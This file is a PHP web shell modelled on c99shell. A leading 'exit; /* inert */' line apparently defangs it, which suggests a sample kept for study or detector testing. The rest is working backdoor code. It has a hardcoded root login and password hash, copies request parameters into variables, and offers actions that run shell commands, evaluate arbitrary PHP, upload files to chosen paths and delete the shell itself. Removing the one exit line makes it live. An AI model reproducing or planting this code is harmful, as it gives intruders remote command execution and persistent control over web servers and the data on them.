<?php exit; /* inert */ $login = "root"; $md5_pass = "5ebe2294ecd0e0f08eab7690d2a6ee69";
@set_time_limit(0);
$surl = $_SERVER['PHP_SELF'] . '?';
foreach ($_REQUEST as $k => $v) { if (!isset($$k)) { $$k = $v; } }
if (empty($PHP_AUTH_USER)) { $PHP_AUTH_USER = $_SERVER['PHP_AUTH_USER']; $PHP_AUTH_PW = $_SERVER['PHP_AUTH_PW']; }
if ($PHP_AUTH_USER != $login or md5($PHP_AUTH_PW) != $md5_pass) {
    header('WWW-Authenticate: Basic realm="c99shell"'); header('HTTP/1.0 401 Unauthorized'); exit;
}
if (!function_exists("myshellexec")) {
    function myshellexec($cmd) {
        $result = "";
        if (!empty($cmd)) {
            if (is_callable("exec")) { exec($cmd, $result); $result = join("\n", $result); }
            elseif (($result = `$cmd`) !== FALSE) { }
            elseif (is_callable("system")) { $v = @ob_get_contents(); @ob_clean(); system($cmd); $result = @ob_get_contents(); @ob_clean(); echo $v; }
        }
        return $result;
    }
}
$quicklaunch = array(array("[Home]", $surl), array("[Sec.]", $surl . "act=security"), array("[Self remove]", $surl . "act=selfremove"));
foreach ($quicklaunch as $q) { echo "<a href=\"$q[1]\">$q[0]</a>"; }
if ($act == "cmd") {
    @chdir($d);
    if ($submit) { $ret = myshellexec($cmd); echo $cmd_txt ? "<textarea>" . htmlspecialchars($ret) . "</textarea>" : $ret; }
}
if ($act == "eval") {
    if (!empty($eval)) { ob_start(); eval($eval); $ret = ob_get_contents(); ob_clean(); echo "<pre>$ret</pre>"; }
}
if ($act == "upload") {
    if (move_uploaded_file($_FILES["uploadfile"]["tmp_name"], $d . $uploadfilename)) { echo "done"; }
}
if ($act == "selfremove") { if ($submit == $rndcode) { unlink(__FILE__); } }
